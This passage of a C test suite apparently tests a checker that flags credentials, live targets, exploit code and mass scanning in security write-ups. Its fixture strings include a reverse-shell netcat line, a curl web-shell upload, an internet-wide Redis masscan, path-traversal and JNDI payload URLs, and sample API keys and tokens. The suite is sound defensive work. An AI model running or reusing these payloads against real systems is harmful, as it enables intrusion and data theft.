        { "使用 huawei!2023 登录后台。\n", "credential" },
        { "passphrase: hunter#2024\n", "credential" },
        { "账号/密码：admin / @dmin2024!\n", "credential" },
        { "SSH in with toor#1337 and then run the script.\n", "credential" },
        { "The VPN passcode is vpn!88231 for everyone.\n", "credential" },
        { "Signing (HMAC-SHA256) secret: sk_live_51HqLm9Tz3Vw8Yb2Nc4Xd7Rf\n", "credential" },
        { "签名校验用的 AccessKey：AKIAZ7Q3M4N5P6R7S8T9\n", "credential" },
        { "Verify the download with sha256sum, then log in with the token\n"
          "ghp_Z7q3M4n5P6r7S8t9U0v1W2x3Y4z5A6b7C8d9\n",
          "credential" },
        { "目标：update 服务器 45.33.32.156\n", "live_target" },
        { "```bash\nupdate server 45.33.32.156\n```\n", "live_target" },
        { "```bash\ncurl -X POST http://ops.hexacorp.cc/upload -F f=@a.jsp\n```\n", "live_target" },
        { "```bash\nnc -e /bin/sh 45.33.32.156 4444 # c++\n```\n", "live_target" },
        { "dpkg (45.33.32.156) is where we staged it\n\n```bash\nscan 45.33.32.156\n```\n",
          "live_target" },
        { "```cpp\nint fd = dial(\"relay.cc\", 443);\n```\n", "live_target" },
        { "默认密码 admin@v12，登录后台。\n", "credential" },
        /* second review of 2026-12-07: the evening's exemptions */
        { "# Mass-owning exposed Redis\n\nWe wrote our own wrapper.\n\n```bash\n"
          "masscan 0.0.0.0/0 -p6379 --rate 1000000 -oL redis.txt\n"
          "nuclei -l redis.txt -t network/redis-unauth.yaml\n```\n",
          "mass_scanner" },
        { "# Redis 未授权批量扫描\n\n本文仅代表个人观点，与我司无关。\n\n```bash\n"
          "masscan 0.0.0.0/0 -p6379 --rate 1000000 -oL redis.txt\n"
          "nuclei -l redis.txt -t network/redis-unauth.yaml\n```\n",
          "mass_scanner" },
        { "# 复盘\n\n实验环境 192.168.1.10 上先验证。\n\n"
          "批量打了一轮，共发现存活主机 3,418 台，全部种了挖矿程序。\n",
          "live_target" },
        { "目标：*.victim-corp.com 下所有子域全部拿下，getshell 了三台。\n", "live_target" },
        { "We popped every box under *.acme-bank.com last night, shells on all of them.\n",
          "live_target" },
        { "## 目标\n\n- *.victim-corp.com\n", "live_target" },
        { "Upgrade ERP 45.33.32.156 then dump the users table.\n", "live_target" },
        /* review of 2026-12-07: shapes the exemptions let through */
        { "SSH in with ops/Summer#2024 and the box is yours.\n", "credential" },
        { "SSH in with ops/Summer!2024 and the box is yours.\n", "credential" },
        { "SSH in with ops/deploy@V3ryS3cret and the box is yours.\n", "credential" },
        { "Use guest/Guest#2024 on the portal.\n", "credential" },
        { "The SSH box accepts Bug#47715 for the svc account.\n", "credential" },
        { "After that, Issue#8899 gets you into the console on the appliance.\n", "credential" },
        { "The vpn box takes (huawei#2023) as the key.\n", "credential" },
        { "Try huawei#2023, on the box.\n", "credential" },
        { "checksum: AKIAIOSFODNN7QXBZ3LM\n", "credential" },
        { "{\"fingerprint\":\"ab12\",\"secret_key\":\"q8Zk3vT9wLmP2xR7sN4b\"}\n", "credential" },
        { "pin-sha256 secret_key=q8Zk3vT9wLmP2xR7sN4b\n", "credential" },
        { "The exploit was run against upgrade 45.33.32.156 yesterday.\n", "live_target" },
        { "We then upgraded 45.33.32.156 to a root shell with the chain below.\n", "live_target" },
        { "Point the exploit at the box, then bump 45.33.32.156 again until it crashes.\n",
          "live_target" },
        { "The shell sits on the server; see section 13.52.118.7 for the panel.\n", "live_target" },
        { "The box at § 18.204.11.3 still answers on 8443.\n", "live_target" },
        { "The reverse shell calls back to RFC 1918 3.120.44.9 on port 4444.\n", "live_target" },
        { "Send it to update to 45.33.32.156 (the admin panel still answers).\n", "live_target" },
        { "The file read is [here][poc].\n\n"
          "[poc]: https://shop.acme-retail.com/static/..%2f..%2f..%2fetc%2fpasswd\n",
          "live_target" },
        { "See [panel][p].\n\n[p]: https://shop.acme-retail.com/static/${jndi:ldap://x.y/a}\n",
          "live_target" },
        { "```\n# dead links: none\n"
          "- https://oa.victim-hospital.cn/seeyon/htmlofficeservlet?cmd=whoami\n```\n",
          "live_target" },
        { "```yaml\nreference:\n  - "
          "https://oa.victim-hospital.cn/seeyon/htmlofficeservlet?cmd=whoami\n```\n",
          "live_target" },
        { "默认口令 pkcs#12\n", "credential" },
        { "See section 45.33.32.156 for the box we attacked.\n", "live_target" },
        { "Full exploit chain available. Contact me on TG@zeroday_shop for the price.\n", "hype" },
        { "Full exploit chain available (TG@zeroday_shop).\n", "hype" },
        { "## Affected sites\n\n- [Acme shop][a]\n\n[a]: https://shop.acme-corp.cn/\n",
          "live_target" },
        { "Run it against the box:\n\n    python3 exploit.py --host corp-dc01 --cmd id\n",
          "exploit_code" },
    };
    for (size_t i = 0; i < EMB_ARRAY_LEN(still); i++)
        if (count_rule(still[i].doc, still[i].family, NULL) == 0)
            T_FAIL_AT("no %s finding in: %s", still[i].family, still[i].doc);
    /* a hit that ends on its line's newline, in prose, in a document with code */
    T_OK(count_rule("~~~\nls\n~~~\n\nThe script loops for url in targets\nand sends one request.\n",
                    "mass_scanner", NULL) != (size_t)-1);
    T_OK(count_rule("```bash\npython3 exp.py --host 45.133.1.20\n```\n", "exploit_code", NULL) >=
         1);
    T_OK(count_rule("```bash\n./scan --target victim.acme-corp.com\n```\n", "exploit_code", NULL) >=
         1);
}

/*
 * A write-up with reproduction content needs a fix: a section, or a sentence
 * that names the fixed version in any order ("addressed the issue in
 * 4.9.0", "官方已在 4.9.0 版本中修复该问题", "Version 4.9.0 fixes this"). A
 * sentence that says there is no fix, or a tool's own changelog, is none.
 */
static void
test_fix_sentences(void)
{
    static const char *const head =
        "# Acme Build Server path traversal\n\n## Reproduction\n\n"
        "In our lab a request for `/artifacts/../../etc/hostname` returned the file:\n\n"
        "```http\nGET /artifacts/..%2f..%2fetc/hostname HTTP/1.1\nHost: 127.0.0.1:8111\n```\n\n";
    static const struct {
        const char *tail;
        size_t want;
    } cases[] = {
        { "Acme addressed the issue in 4.9.0, released on 30 September.\n", 0 },
        { "The fix landed in 4.9.0 (commit 3f9c2d8).\n", 0 },
        { "官方已在 4.9.0 版本中修复该问题。\n", 0 },
        { "厂商已于 9 月 30 日发布 4.9.0 修复此漏洞，请尽快更新。\n", 0 },
        { "Version 4.9.0 fixes this; no workaround exists.\n", 0 },
        { "截至 12 月 1 日，厂商尚未修复此漏洞（最新版 4.9.0 仍受影响）。\n", 1 },
        { "4.9.0 does not fix the issue.\n", 1 },
        { "v1.3 修复了代理问题，增加批量模式。\n", 1 },
        { "该漏洞 CVSS 评分 9.8，请用户尽快修复此漏洞。\n", 1 },
        { "All versions up to 4.8.2 are affected and no release fixes the issue.\n", 1 },
        /* asked, doubted, hoped for or promised: no fix (review9) */
        { "We asked when 2.4 fixes this, and got no answer.\n", 1 },
        { "Version 2.4 fixes this? Vendor says no.\n", 1 },
        { "Nobody knows if 2.4 contains the fix.\n", 1 },
        { "厂商称会在 2.4 版本中修复该问题，目前没有时间表。\n", 1 },
        { "The bug was introduced in 2.3 and resolved in nothing so far; 2.4 is still "
          "vulnerable.\n",
          1 },
        { "Maybe 2.4 fixes the issue, maybe not.\n", 1 },
        { "No vendor fix exists. We will publish once 3.1 includes a fix.\n", 1 },
        /* a fix named under a condition, or beside another clause, still is one */
        { "If you cannot upgrade to 4.9.0, disable the artifact browser.\n", 0 },
        { "建议将 Acme Build Server 升级到 4.9.0 及以上版本。\n", 0 },
        { "Upgrade to 4.9.0; 4.8.2 is still vulnerable.\n", 0 },
        { "Version 4.9.0 fixes this, as the vendor confirmed.\n", 0 },
        /* review11 D: a short Chinese instruction is a fix, filler or a deferral is not */
        { "## 修复建议\n\n接口增加鉴权。\n", 0 },
        { "## 修复建议\n\n关闭调试接口。\n", 0 },
        { "## 修复建议\n\n删除该文件。\n", 0 },
        { "## 修复建议\n\n建议升级。\n", 1 },
        { "## 修复建议\n\n请尽快修改。\n", 1 },
        { "## 修复建议\n\n暂无，等待厂商修复。\n", 1 },
        /* a service's fix is deployed, at a date or as the report's state */
        { "## Timeline\n\n- 2026-09-01 reported\n- 2026-09-04 fix deployed, bounty awarded\n", 0 },
        { "## Timeline\n\n- 2026-09-01 reported\n- 2026-09-04 no fix deployed yet\n", 1 },
        { "The program fixed the issue on 2026-09-04.\n", 0 },
        { "The program says it will be fixed on 2026-10-01.\n", 1 },
        { "## Timeline\n\n- 2026-09-04: Resolved\n", 0 },
        { "Status: Resolved (fixed server-side)\n", 0 },
        { "Status: Unresolved\n", 1 },
        { "## Changes\n\n- Fixed a crash in the box parser\n", 1 },
        { "厂商修复已上线。\n", 0 },
        { "厂商尚未上线修复。\n", 1 },
    };
    for (size_t i = 0; i < EMB_ARRAY_LEN(cases); i++) {
        char doc[1024];
        snprintf(doc, sizeof doc, "%s%s", head, cases[i].tail);
        size_t n = count_rule(doc, "no_remediation", NULL);
        if (n != cases[i].want)
            T_FAIL_AT("no_remediation %zu, want %zu: %s", n, cases[i].want, cases[i].tail);
    }
}

static void
test_inline_suppression(void)
{
    struct emb_check_report r;
    const char *doc = "<!-- embargo: allow live_target.ipv4 reason=\"our honeypot\" -->\n"
                      "see 45.133.1.20\n";

    T_EQ_INT(count_rule(doc, "live_target.ipv4", &r), 0);
    T_EQ_INT(r.n, 1);
    T_OK(r.f[0].suppressed);
    T_EQ_STR(r.f[0].reason, "our honeypot");
    T_EQ_INT(emb_check_verdict(&r), 0);
    emb_check_report_free(&r);
    /* two lines above is too far */
    T_EQ_INT(count_rule("<!-- embargo: allow live_target reason=\"x\" -->\n\nsee 45.133.1.20\n",
                        "live_target.ipv4", NULL),
             1);
}

/*
 * Many findings on long lines: once the lines read for them add up to more
 * than the text, emb_check_suppress searches the whole text once for an
 * override instead; the outcome is the same as line by line.
 */
static void
test_inline_suppression_many(void)
{
    static const char *const above[] = {
        "", /* no override at all */
        "<!-- embargo: allow live_target.ipv4 reason=\"lab\" -->\n",
        "<!-- embargo: allow live_target.ipv4 reason=\"lab\" -->\n\nfiller line\n\n",
        "<!-- embargo: allow live_target.ipv6 reason=\"lab\" -->\n",
    };
    static const size_t want_zero[] = { 0, 1, 0, 0 };
    char doc[2048];
    size_t n0 = 0;

    for (size_t k = 0; k < EMB_ARRAY_LEN(above); k++) {
        size_t len = (size_t)snprintf(doc, sizeof doc, "%s看", above[k]), n;
        for (int i = 20; i < 60; i++)
            len += (size_t)snprintf(doc + len, sizeof doc - len, " 45.133.1.%d", i);
        snprintf(doc + len, sizeof doc - len, "\n");
        n = count_rule(doc, "live_target.ipv4", NULL);
        if (k == 0)
            n0 = n;
        T_OK(n0 >= 30);
        T_EQ_INT(n, want_zero[k] ? 0 : n0);
    }
}

/*
 * Long lines with ':', '：' or another character ending in byte 0x9A (业) at
 * the positions around the section-head pass's colon test (s[1..49) for ':',
 * s[3..51) for the last byte), in lines of 57 to 129 bytes, then an address
 * that makes a validator build the heads. Debug builds compare the SSE2 form
 * of the test with the portable one on every line (an assert in
 * structure.c); the label lines must become heads either way.
 */
static void
test_head_colon_lines(void)
{
    static const char *const marks[] = { ":", "\xEF\xBC\x9A", "\xE4\xB8\x9A" };
    static const size_t at[] = { 0,  1,  2,  3,  7,  8,  9,  15, 16, 17, 31,
                                 32, 33, 46, 47, 48, 49, 50, 51, 52, 56 };
    struct emb_buf b = EMB_BUF_INIT(1u << 22);
    struct emb_check_report r;
    char line[160];

    for (size_t len = 57; len <= 129; len++)
        for (size_t m = 0; m < EMB_ARRAY_LEN(marks); m++)
            for (size_t k = 0; k < EMB_ARRAY_LEN(at); k++) {
                size_t ml = strlen(marks[m]);
                if (at[k] + ml > len)
                    continue;
                memset(line, 'x', len);
                memcpy(line + at[k], marks[m], ml);
                emb_buf_append(&b, line, len);
                emb_buf_puts(&b, "\n");
            }
    /* a label head ("IOC:" then content) above the address: a warning, not a block */
    emb_buf_puts(&b, "IOC: the servers below\nsee 45.133.1.20 now\n");
    T_EQ_INT(cu_scan(&E, "t.md", b.data, b.len, &r), 0);
    T_EQ_INT(r.n, 1);
    T_OK(r.n == 1 && r.f[0].severity == EMB_SEV_WARN);
    emb_check_report_free(&r);
    emb_buf_free(&b);
}

/*
 * emb_has_groups() against emb_has_any() on each group's own list, on random
 * text made of the words (in either case, cut short, glued together), CJK
 * and ASCII filler, at every length up to 129; with a stop group, the result
 * must still say whether that group occurs.
 */
static void
test_has_groups(void)
{
    static const char *const words[] = { "oid", "证书", "x.509", "version", "版本",
                                         "ip",  "地址", "host",  "c2",      NULL };
    static const unsigned char group[] = { 1, 1, 1, 2, 2, 4, 4, 4, 4 };
    static const char *const g1[] = { "oid", "证书", "x.509", NULL };
    static const char *const g2[] = { "version", "版本", NULL };
    static const char *const g3[] = { "ip", "地址", "host", "c2", NULL };
    static const char *const pieces[] = { "oid",  "OID",   "oi",      "证书",   "证",   "x.509",
                                          "x.50", "X.509", "VERSION", "versio", "版本", "版",
                                          "ip",   "IP",    "i",       "地址",   "地",   "host",
                                          "HoSt", "hos",   "c2",      "C2",     "c",    " ",
                                          "中文", "\n",    "z",       "9",      "." };
    char buf[200];
    int bad = 0;

    for (int iter = 0; iter < 20000 && bad == 0; iter++) {
        size_t n = 0, want = t_rand(130);
        while (n < want) {
            const char *p = pieces[t_rand(EMB_ARRAY_LEN(pieces))];
            size_t m = strlen(p);
            if (n + m > want)
                break;
            memcpy(buf + n, p, m);
            n += m;
        }
        unsigned full = emb_has_groups(buf, n, words, group, 0);
        unsigned ref = (emb_has_any(buf, n, g1) ? 1u : 0u) | (emb_has_any(buf, n, g2) ? 2u : 0u) |
                       (emb_has_any(buf, n, g3) ? 4u : 0u);
        unsigned stop = emb_has_groups(buf, n, words, group, 1);
        if (full != ref || (stop & 1) != (ref & 1) || (stop & ~ref) != 0) {
            fprintf(stderr, "emb_has_groups on \"%.*s\": %u (stop 1: %u), per list %u\n", (int)n,
                    buf, full, stop, ref);
            bad++;
        }
    }
    T_EQ_INT(bad, 0);
}

static void
test_hit_limit(void)
{
    struct emb_check_scratch *s = emb_check_scratch_new(E.chk, 10);
    struct emb_buf b = EMB_BUF_INIT(4096);
    struct emb_doc doc;
    struct emb_doc_err derr;
    struct emb_doc_opts o = { .kind = -1 };
    struct emb_check_report r;

    for (int i = 0; i < 10; i++)
        emb_buf_puts(&b, "核弹级\n");
    T_EQ_INT(emb_doc_load("h.md", b.data, b.len, &o, &doc, &derr), EMB_OK);
    T_EQ_INT(emb_check_scan(E.chk, s, &doc, &r), EMB_OK); /* exactly max */
    T_EQ_INT(r.n, 10);
    emb_check_report_free(&r);
    emb_doc_free(&doc);
    emb_buf_puts(&b, "核弹级\n");
    T_EQ_INT(emb_doc_load("h.md", b.data, b.len, &o, &doc, &derr), EMB_OK);
    T_EQ_INT(emb_check_scan(E.chk, s, &doc, &r), EMB_ELIMIT); /* max + 1 */
    emb_doc_free(&doc);
    emb_buf_free(&b);
    emb_check_scratch_free(s);
}

/*
 * hype.sale_field judges a "Fields:" line by whether the whole document sells
 * something: searched once a document, not once a line (a page of 20,000 such
 * lines took minutes when every hit searched the whole text again).
 */
static size_t
sale_field_count(const char *tail)
{
    struct emb_check_scratch *s = emb_check_scratch_new(E.chk, 0);
    struct emb_buf b = EMB_BUF_INIT(1u << 20);
    struct emb_doc doc;
    struct emb_doc_err derr;
    struct emb_doc_opts o = { .kind = -1 };
    struct emb_check_report r;
    size_t n = 0;

    emb_buf_puts(&b, "# Export\n\n");
    for (int i = 0; i < 20000; i++)
        emb_buf_puts(&b, "Fields: name, phone\n");
    emb_buf_puts(&b, tail);
    T_EQ_INT(emb_doc_load("f.md", b.data, b.len, &o, &doc, &derr), EMB_OK);
    T_EQ_INT(emb_check_scan(E.chk, s, &doc, &r), EMB_OK);
    for (size_t i = 0; i < r.n; i++)
        n += strcmp(r.f[i].rule->id, "hype.sale_field") == 0;
    emb_check_report_free(&r);
    emb_doc_free(&doc);
    emb_buf_free(&b);
    emb_check_scratch_free(s);
    return n;
}

/*
 * emb_ctx_line_near: a line of up to 2 * EMB_LINE_NEAR bytes is the whole
 * line; one byte more and it is the EMB_LINE_NEAR bytes each side of the
 * offset, cut at character boundaries.
 */
static void
test_line_near(void)
{
    const size_t max = 2 * EMB_LINE_NEAR;
    char *t = malloc(max + 256);
    uint32_t nl[2];
    struct emb_ctx x = { 0 };
    size_t ls, le;

    if (t == NULL) {
        T_FAIL_AT("%s", "out of memory");
        return;
    }
    /* "x" * L, '\n', "y" */
    for (size_t L = max; L <= max + 1; L++) {
        memset(t, 'x', L);
        t[L] = '\n';
        t[L + 1] = 'y';
        x.t = t;
        x.len = L + 2;
        nl[0] = (uint32_t)L;
        x.nl = nl;
        x.nnl = 1;
        emb_ctx_line_near(&x, L / 2, &ls, &le);
        if (L == max) {
            T_EQ_INT(ls, 0);
            T_EQ_INT(le, L);
        } else {
            T_EQ_INT(ls, L / 2 - EMB_LINE_NEAR);
            T_EQ_INT(le, L / 2 + EMB_LINE_NEAR);
        }
        emb_ctx_line_near(&x, L + 1, &ls, &le); /* the short line after it */
        T_EQ_INT(ls, L + 1);
        T_EQ_INT(le, L + 2);
    }
    /* a cut inside a three-byte character moves to its edges */
    {
        size_t L = max + 100, off = L / 2;
        memset(t, 'x', L);
        memcpy(t + off - EMB_LINE_NEAR - 1, "\xe4\xb8\xad", 3); /* 中 over the start cut */
        memcpy(t + off + EMB_LINE_NEAR - 1, "\xe4\xb8\xad", 3); /* and over the end cut */
        t[L] = '\n';
        x.len = L + 1;
        nl[0] = (uint32_t)L;
        emb_ctx_line_near(&x, off, &ls, &le);
        T_EQ_INT(ls, off - EMB_LINE_NEAR + 2);
        T_EQ_INT(le, off + EMB_LINE_NEAR - 1);
    }
    free(t);
}

/*
 * emb_ctx_has / emb_ctx_has_any remember one span per key in a table of
 * EMB_ARRAY_LEN(x.memo) slots: with more keys than slots (evictions), and
 * with the same key asked about other spans, every answer is the one
 * emb_has / emb_has_any gives.
 */
static void
test_span_memo(void)
{
    static const char text[] = "alpha beta\ngamma delta\nepsilon\n";
    static const char *const greek[] = { "beta", "delta", NULL };
    static const uint32_t nl[] = { 10, 22, 30 };
    enum {
        NKEYS = 300
    };
    char *words[NKEYS];
    struct emb_ctx *x = calloc(1, sizeof *x);

    if (x == NULL) {
        T_FAIL_AT("%s", "out of memory");
        return;
    }
    T_OK(NKEYS > EMB_ARRAY_LEN(x->memo));
    x->t = text;
    x->len = sizeof text - 1;
    x->nl = nl;
    x->nnl = 3;
    for (int k = 0; k < NKEYS; k++) {
        words[k] = malloc(8);
        snprintf(words[k], 8, "%s", k % 3 == 0 ? "beta" : k % 3 == 1 ? "gamma" : "zeta");
    }
    for (int round = 0; round < 2; round++)
        for (int k = 0; k < NKEYS; k++)
            for (size_t a = 0; a + 1 < x->len; a += 11) {
                size_t b = a + 12 < x->len ? a + 12 : x->len;
                T_EQ_INT(emb_ctx_has(x, a, b, words[k]), emb_has(text + a, b - a, words[k]));
                T_EQ_INT(emb_ctx_has_any(x, a, b, greek), emb_has_any(text + a, b - a, greek));
                T_EQ_INT(emb_ctx_has_word_any(x, a, b, greek),
                         emb_has_word_any(text + a, b - a, greek));
            }
    for (int k = 0; k < NKEYS; k++)
        free(words[k]);
    free(x);
}

static void
test_sale_field_once(void)
{
    T_EQ_INT(sale_field_count("\nThe API returns these fields.\n"), 0);
    T_EQ_INT(sale_field_count("\n【出】 全套，价格私聊\n"), 20000);
}

/*
 * A version check over a host list is an operator's own fleet only when a
 * sentence above says where the hosts come from ("every concentrator we run",
 * the title "Checking our own edge fleet"): a list pulled from a search
 * engine, or one merely compared with the writer's inventory, is strangers'
 * (review9 finding 1).
 */
static void
test_fleet_source(void)
{
    static const char *const code =
        "```python\nimport requests\nfrom concurrent.futures import ThreadPoolExecutor\n"
        "hosts = [l.strip() for l in open(\"%s\")]\ndef probe(h):\n"
        "    r = requests.get(\"https://\" + h + \"/api/version\", timeout=5)\n"
        "    print(h, r.text)\nwith ThreadPoolExecutor(64) as p:\n    p.map(probe, hosts)\n```\n";
    char doc[2048], blk[1024];

    snprintf(blk, sizeof blk, code, "shodan_hosts.txt");
    snprintf(doc, sizeof doc,
             "# Counting exposed gateways\n\nWe pulled every match from Shodan "
             "and compared it with our own inventory.\n\n%s",
             blk);
    T_OK(count_rule(doc, "mass_scanner", NULL) > 0);
    snprintf(blk, sizeof blk, code, "hosts.txt");
    snprintf(doc, sizeof doc,
             "# Counting exposed gateways\n\nWe pulled every match from the "
             "scan and compared it with our own inventory.\n\n%s",
             blk);
    T_OK(count_rule(doc, "mass_scanner", NULL) > 0);
    snprintf(blk, sizeof blk, code, "inventory/vpn.csv");
    snprintf(doc, sizeof doc,
             "# Checking our own edge fleet\n\nThe network team wanted a yes/no "
             "for every VPN concentrator we run, all reachable only from the "
             "management VLAN through the bastion.\n\n%s",
             blk);
    T_EQ_INT(count_rule(doc, "mass_scanner", NULL), 0);
    T_EQ_INT(count_rule(doc, "exploit_code", NULL), 0);
}

/*
 * Many mass-scan hits in one block or along one line share the block's and
 * the line's judgement: 4,000 "range(" loops in one script, 2,000 thread
 * pools in an own-fleet check, a 64 KB line of "`Promise.all(` " (review9
 * findings 10, 11, 13: 132 s, 111 s and 35 s when each hit read the whole
 * block or line again). A quadratic return shows up as this test's time.
 */
static void
test_mass_scan_once(void)
{
    struct emb_buf b = EMB_BUF_INIT(1u << 20);
    struct emb_check_report r;

    emb_buf_puts(&b, "# x\n\n```python\nimport requests\n");
    for (int i = 0; i < 4000; i++)
        emb_buf_puts(&b, "for i in range(3): requests.get(u)\n");
    emb_buf_puts(&b, "```\n");
    T_EQ_INT(cu_scan(&E, "r.md", b.data, b.len, &r), 0);
    for (size_t i = 0; i < r.n; i++)
        T_OK(strcmp(r.f[i].rule->id, "mass_scanner.command") != 0);
    emb_check_report_free(&r);
    emb_buf_reset(&b);
    emb_buf_puts(&b, "# Checking our own inventory\n\n```python\nimport requests\n");
    for (int i = 0; i < 2000; i++)
        emb_buf_puts(&b, "with ThreadPoolExecutor(8) as p: p.map(lambda h: "
                         "requests.get(h+\"/version\"), hosts)\n");
    emb_buf_puts(&b, "```\n");
    T_EQ_INT(cu_scan(&E, "f.md", b.data, b.len, &r), 0);
    for (size_t i = 0; i < r.n; i++)
        T_OK(strcmp(r.f[i].rule->id, "mass_scanner.command") != 0);
    emb_check_report_free(&r);
    emb_buf_reset(&b);
    for (int i = 0; i < 4000; i++)
        emb_buf_puts(&b, "`Promise.all(` ");
    emb_buf_puts(&b, "\n");
    T_EQ_INT(cu_scan(&E, "p.md", b.data, b.len, &r), 0);
    for (size_t i = 0; i < r.n; i++)
        T_OK(strcmp(r.f[i].rule->id, "mass_scanner.command") != 0);
    emb_check_report_free(&r);
    emb_buf_free(&b);
}

/*
 * Text without code blocks: a paragraph is the region a code rule judges, and
 * one over 128 KiB is judged in consecutive windows of whole lines, so that a
 * page of one huge paragraph costs linear time. The findings of successive
 * windows must tile the paragraph: no line between them left unredacted.
 */
static void
test_huge_paragraph_windows(void)
{
    struct emb_check_scratch *s = emb_check_scratch_new(E.chk, 0);
    struct emb_buf b = EMB_BUF_INIT(1u << 20);
    struct emb_doc doc;
    struct emb_doc_err derr;
    struct emb_doc_opts o = { .kind = EMB_DOC_TEXT };
    struct emb_check_report r;
    size_t n = 0, prev_end = 0, first = SIZE_MAX;

    for (int i = 0; i < 9000; i++) /* 414,000 bytes: four windows */
        emb_buf_puts(&b, "class MetasploitModule < Msf::Exploit::Remote\n");
    T_EQ_INT(emb_doc_load("p.txt", b.data, b.len, &o, &doc, &derr), EMB_OK);
    T_EQ_INT(emb_check_scan(E.chk, s, &doc, &r), EMB_OK);
    for (size_t i = 0; i < r.n; i++) {
        const struct emb_check_finding *f = &r.f[i];
        if (strcmp(f->rule->id, "exploit_code.template") != 0)
            continue;
        if (n++ == 0)
            first = f->redact_start;
        else
            T_EQ_INT(f->redact_start, prev_end + 1); /* the next line */
        prev_end = f->redact_end;
    }
    T_EQ_INT(n, 4);
    T_EQ_INT(first, 0);
    T_EQ_INT(prev_end, b.len - 1); /* up to the last line's end */
    emb_check_report_free(&r);
    emb_doc_free(&doc);
    emb_buf_free(&b);
    emb_check_scratch_free(s);
}

/* Every labelled document, redacted and checked again: nothing blocking of
 * the redacted families remains, and the bytes outside the spans are kept. */
static int
roundtrip_dir(const char *dir)
{
    DIR *d = opendir(dir);
    struct dirent *de;
    int n = 0;

    if (d == NULL)
        return -1;
    while (d && (de = readdir(d)) != NULL) {
        struct emb_buf in, out = EMB_BUF_INIT(EMB_DOC_MAX_BYTES * 2);
        struct emb_doc doc;
        struct emb_doc_err derr;
        struct emb_doc_opts o = { .kind = -1 };
        struct emb_check_report r, r2;
        if (de->d_name[0] == '.' || strstr(de->d_name, ".json"))
            continue;
        if (cu_read(dir, de->d_name, &in) != 0)
            continue;
        T_EQ_INT(emb_doc_load(de->d_name, in.data, in.len, &o, &doc, &derr), EMB_OK);
        T_EQ_INT(emb_check_scan(E.chk, E.scr, &doc, &r), EMB_OK);
        T_EQ_INT(emb_check_redact(&doc, &r, &out), EMB_OK);
        /* the prefix before the first redaction is unchanged */
        size_t first = doc.src_len;
        for (size_t i = 0; i < r.n; i++)
            if (r.f[i].redact_end > r.f[i].redact_start && r.f[i].redact_start < first &&
                (r.f[i].redact_with == NULL || r.f[i].redact_with[0] != '\0') &&
                r.f[i].rule->family != EMB_FAM_HYPE &&
                r.f[i].rule->family != EMB_FAM_NO_REMEDIATION)
                first = r.f[i].redact_start;
        T_OK(out.len >= first && memcmp(out.data, doc.src, first) == 0);
        /* the settled copy (checked again and redacted again while needed) */
        emb_buf_free(&out);
        out = (struct emb_buf)EMB_BUF_INIT(EMB_DOC_MAX_BYTES * 2);
        T_EQ_INT(emb_check_redact_settled(E.chk, E.scr, &doc, &r, de->d_name, NULL, &out), EMB_OK);
        T_EQ_INT(cu_scan(&E, de->d_name, out.data, out.len, &r2), 0);
        for (size_t i = 0; i < r2.n; i++) {
            enum emb_check_family f = r2.f[i].rule->family;
            if (r2.f[i].severity == EMB_SEV_BLOCK &&
                (f == EMB_FAM_LIVE_TARGET || f == EMB_FAM_SEARCH_DORK || f == EMB_FAM_CREDENTIAL ||
                 f == EMB_FAM_EXPLOIT_CODE))
                T_FAIL_AT("%s: %s still blocks after redaction: %s", de->d_name, r2.f[i].rule->id,
                          r2.f[i].excerpt);
        }
        n++;
        emb_check_report_free(&r);
        emb_check_report_free(&r2);
        emb_doc_free(&doc);
        emb_buf_free(&in);
        emb_buf_free(&out);
    }
    closedir(d);
    return n;
}

static void
test_redaction_roundtrip(void)
{
    static const char *const sets[] = { "corpus/tune", "corpus/dev",  "corpus/dev2", "corpus/dev3",
                                        "corpus/dev4", "corpus/dev5", "corpus/dev6", "corpus/dev7",
                                        "corpus/dev8", "corpus/dev9", NULL };

    T_OK(roundtrip_dir("tests/check/data") >= 10);
    /* every set but holdout (which is only scored) */
    for (size_t i = 0; sets[i] != NULL; i++)
        if (cu_is_dir(sets[i]))
            T_OK(roundtrip_dir(sets[i]) >= 10);
}

/* Text copied from web pages: what a reader sees as a space, nothing or an
 * ASCII digit reads so to the rules too (check/input/fold.c); positions and
 * excerpts stay those of the input as read. */
static void
test_unicode_fold(void)
{
    struct emb_check_report r;

    /* NO-BREAK SPACEs between the words of an exploit command */
    T_EQ_INT(count_rule("## 复现\n\n    python3\xc2\xa0"
                        "exp.py\xc2\xa0-u\xc2\xa0http://117.50.36.142:8080\n",
                        "exploit_code.invoke", NULL),
             1);
    T_EQ_INT(count_rule("nc\xc2\xa0-e\xc2\xa0/bin/sh 8.210.33.4 4444\n",
                        "exploit_code.reverse_shell", NULL),
             1);
    /* an address in full-width digits, and with ideographic full stops */
    T_EQ_INT(count_rule("目标：\xef\xbc\x91\xef\xbc\x91\xef\xbc\x97.50.36.142\n",
                        "live_target.ipv4", &r),
             1);
    T_EQ_INT(r.f[0].start, 9); /* the first full-width digit */
    T_EQ_INT(r.f[0].end, 28);
    T_EQ_INT(r.f[0].column, 4);
    emb_check_report_free(&r);
    T_EQ_INT(count_rule("目标：117\xe3\x80\x82"
                        "50\xe3\x80\x82"
                        "36\xe3\x80\x82"
                        "142\n",
                        "live_target.ipv4", NULL),
             1);
    /* a zero-width space cannot hide the engine's name from the label rule */
    T_EQ_INT(count_rule("F\xe2\x80\x8bOFA 语法：title=\"星图堡垒机\"\n", "search_dork", NULL), 1);
    /* ordinary Chinese punctuation does not fold: "完成。5 台" is no address */
    T_EQ_INT(count_rule("扫描完成。5 台在线，均为 10.0.0.0/8 内网。\n", "live_target", NULL), 0);
}

/* A redacted copy checked again: masks are not secrets, dotted tokens go
 * whole, a line that wires a tool to an engine goes whole. */
static void
test_redaction_masks(void)
{
    T_EQ_INT(count_rule("- Tries the vendor defaults `admin:********` and `root:********`\n",
                        "credential", NULL),
             0);
    T_EQ_INT(count_rule("- Tries the vendor defaults `admin:halden` and `root:12345678`\n",
                        "credential", NULL),
             2);
    {
        struct emb_check_report r;
        const char *jwt = "Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
                          "eyJzdWIiOiJtZXJjaGFudCJ9.n3W9qZ2kR7vT4mL8xB1yE6hJ0sD5cF2aG7uK9iOpQ4s\n";
        T_EQ_INT(count_rule(jwt, "credential.token", &r), 1);
        T_EQ_INT(r.f[0].redact_end, strlen(jwt) - 1); /* all three parts */
        emb_check_report_free(&r);
    }
    T_EQ_INT(
        count_rule("FOFA：[redacted-dork]\n\n目标：http://x.x.x.x:8080/\n", "search_dork", NULL),
        0);
}

/* A trailing 往期推荐 list: its titles speak of other articles (no
 * mass_scanner or hype finding), but a query written out in a title is a
 * query, and the same words in the article's own text are still found. */
static void
test_related_tail(void)
{
